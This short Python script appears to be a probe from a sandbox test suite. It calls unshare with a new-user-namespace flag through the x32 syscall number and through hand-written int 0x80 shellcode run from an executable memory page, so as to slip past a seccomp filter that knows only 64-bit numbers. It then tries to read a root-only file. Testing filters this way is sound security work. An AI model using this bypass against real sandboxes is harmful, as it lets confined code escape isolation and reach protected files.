"""Makes forbidden calls by the numbers of 32-bit x86 and x32, which a careless filter does not know."""

import ctypes, mmap
from kit import *

libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    print("x32 unshare", libc.syscall(0x40000000 + 272, 0x10000000), flush=True)
    os._exit(0)
attempt(os.wait)
if os.fork() == 0:
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(
        b"\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\xc3"
    )  # mov eax,310 (unshare); mov ebx,NEWUSER; int 0x80
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    print("int 0x80", ctypes.CFUNCTYPE(ctypes.c_int)(address)(), flush=True)
    show(ROOT_FILE)
    os._exit(0)
attempt(os.wait)
